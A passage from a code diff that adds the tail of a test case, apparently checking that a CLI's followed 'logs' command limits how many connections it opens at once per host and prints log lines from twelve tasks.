+      const r = await here.cli(["--host", "counting", "logs", "-f", "-g", "g"]);
+      // Opened at once, as each bridge saw it: `logs`'s own (its fleet asked) and OPENS_PER_HOST followers at most.
+      const seen = readFileSync(join(dirname(binary), "seen"), "utf8")
+        .split("\n")
+        .filter(Boolean)
+        .map(Number);
+      expect(Math.max(...seen)).toBeLessThanOrEqual(OPENS_PER_HOST + 1);
+      expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: "" });
+      const printed = r.stdout.split("\n").filter(Boolean);
+      expect(printed).toHaveLength(12);
+      for (let i = 1; i <= 12; i++) expect(printed).toContainEqual(expect.stringMatching(new RegExp(`^ *${i} +t${i} *\\| line of task ${i}$`)));
+      expect(seen).toHaveLength(13);
+    } finally {
+      writeFileSync(config, kept);
+    }
   });
 });
